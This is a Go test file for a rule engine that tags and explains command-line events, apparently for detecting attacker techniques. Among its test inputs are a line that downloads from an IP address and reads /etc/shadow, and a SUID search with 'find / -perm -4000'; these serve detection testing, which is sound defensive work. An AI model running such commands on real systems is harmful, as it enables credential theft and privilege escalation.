package rule

import (
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"ttp-worker/tagger/shell"
	"ttp-worker/ttp"
)

// What is explained is what happens, on lines and tests of all sorts.
func TestExplain_agreesWithTag(t *testing.T) {
	t.Parallel()
	set, _ := Load(Options{Expand: shell.Expander}, Source{"builtin", os.DirFS("../builtin")}, Source{"testdata", os.DirFS("testdata")})
	var events []ttp.Event
	for _, line := range corpus(t) {
		events = append(events, commandEvent(line))
	}
	for _, suite := range set.tests {
		for _, ex := range suite.examples {
			events = append(events, ttp.Event{Kind: suite.kind, Payload: ex.payload})
		}
	}
	for i := 0; i < len(events); i += 40 { // all of them take long under the race detector
		for _, e := range checkExplained(t, set, &events[i]) {
			if e.Cut || e.Matched != e.Trace.Holds {
				t.Errorf("%s of %s: matched %t, holds %t, cut %t", e.Rule.ID, events[i].Payload.AppendJSON(nil), e.Matched, e.Trace.Holds, e.Cut)
			}
		}
	}
}

// checkExplained compares which rules match an event with which are said to.
func checkExplained(t *testing.T, set *Set, ev *ttp.Event) []Explanation {
	t.Helper()
	var tagged, explained []string
	for _, f := range mustTag(t, set, ev) {
		tagged = append(tagged, f.RuleID)
	}
	list := set.Explain(ev)
	for _, e := range list {
		if e.Matched {
			explained = append(explained, e.Rule.ID)
		}
	}
	if tagged = slices.Compact(tagged); !slices.Equal(tagged, explained) {
		t.Errorf("%.200s: tagged by %q, explained as %q", ev.Payload.AppendJSON(nil), tagged, explained)
	}
	return list
}

func TestExplain_ofTooMuchIsCutAndStillAgrees(t *testing.T) {
	t.Parallel()
	set, _ := Load(Options{Expand: shell.Expander}, Source{"builtin", os.DirFS("../builtin")})
	ev := commandEvent(strings.Repeat("wget http://192.0.2.1/x; cat /etc/shadow; ", 1500))
	mustTag(t, set, &ev) // steps of tables that nobody took before are searches, too
	list := checkExplained(t, set, &ev)
	if !slices.ContainsFunc(list, func(e Explanation) bool { return e.Cut }) {
		t.Error("nothing was cut")
	}
	if !slices.ContainsFunc(list, func(e Explanation) bool { return e.Matched && e.Trace.Holds }) {
		t.Error("no match is explained")
	}
}

func commandEvent(line string) ttp.Event {
	return ttp.Event{Kind: ttp.Command, Payload: ttp.Object{{Name: "command_text", Value: ttp.Quote(line)}}}
}

func TestExplain_saysWhichRecordCameClosestAndWhy(t *testing.T) {
	t.Parallel()
	set, problems := Load(Options{Expand: shell.Expander}, memory(map[string]string{"a.yml": with("detection",
		`{find: {program: find, args|contains: [-perm, -exec]}, own: {User: root}, gone: {x: null}, condition: find and not own and gone}`)}))
	if problems != nil {
		t.Fatal(problems)
	}
	ev := commandEvent("echo hello; find / -name x")
	got := set.Explain(&ev)[0]
	want := Explanation{
		Rule: set.Rules()[0], Record: "find / -name x", Near: 2,
		Trace: Trace{Asked: "all of", Parts: []Trace{
			{Selection: "find", Asked: "all of", Parts: []Trace{
				{Asked: "program is", Wanted: `"find"`, Saw: []string{"find"}, Holds: true},
				{Asked: "any of", Parts: []Trace{
					{Asked: "args contains", Wanted: `"-perm"`, Saw: []string{"/ -name x"}},
					{Asked: "args contains", Wanted: `"-exec"`, Saw: []string{"/ -name x"}},
				}},
			}},
			{Asked: "not", Holds: true, Parts: []Trace{{Selection: "own", Asked: "User is", Wanted: `"root"`}}},
			{Selection: "gone", Asked: "x is null or not there", Holds: true},
		}},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if missing := got.Trace.Missing(); len(missing) != 1 || missing[0].Wanted != `"-perm"` {
		t.Errorf("missing: %+v", missing)
	}
	ev = commandEvent("echo hello; find / -perm -4000; echo bye")
	if got := set.Explain(&ev)[0]; !got.Matched || got.Record != "find / -perm -4000" {
		t.Errorf("matched %v by %q", got.Matched, got.Record)
	}
}

func TestTrace_quotesNoMoreThanAPersonReads(t *testing.T) {
	t.Parallel()
	set, _ := Load(Options{}, memory(map[string]string{"a.yml": with("detection", `{s: {x|contains: z}, condition: s}`)}))
	ev := ttp.Event{Kind: ttp.Command, Payload: ttp.Object{{Name: "x", Value: ttp.Strings(slices.Repeat([]string{strings.Repeat("ä", 500)}, 10))}}}
	saw := set.Explain(&ev)[0].Trace.Saw
	if len(saw) != maxSeen || len(saw[0]) > maxSeenText+len("…") {
		t.Errorf("%d values, the first of %d bytes", len(saw), len(saw[0]))
	}
}

func TestTest_saysWhatItAsks(t *testing.T) {
	t.Parallel()
	for detection, want := range map[string]string{
		`{s: {a|cased: B}, condition: s}`:         `a is (case counts) "B"`,
		`{s: {a|re: 'x+'}, condition: s}`:         `a matches /x+/`,
		`{s: {a|gte: 5}, condition: s}`:           `a >= 5`,
		`{s: {a|cidr: 10.0.0.0/8}, condition: s}`: `a is in 10.0.0.0/8`,
		`{s: {a|fieldref: b}, condition: s}`:      `a is the same as the field "b"`,
		`{s: {a|exists: false}, condition: s}`:    `a is not there`,
		`{s: [word], condition: s}`:               `any text contains "word"`,
	} {
		set, problems := Load(Options{}, memory(map[string]string{"a.yml": with("detection", detection)}))
		if problems != nil {
			t.Fatal(problems)
		}
		ev := commandEvent("x")
		trace := set.Explain(&ev)[0].Trace
		if got := strings.TrimSpace(trace.Asked + " " + trace.Wanted); got != want {
			t.Errorf("%s: %s, want %s", detection, got, want)
		}
	}
}
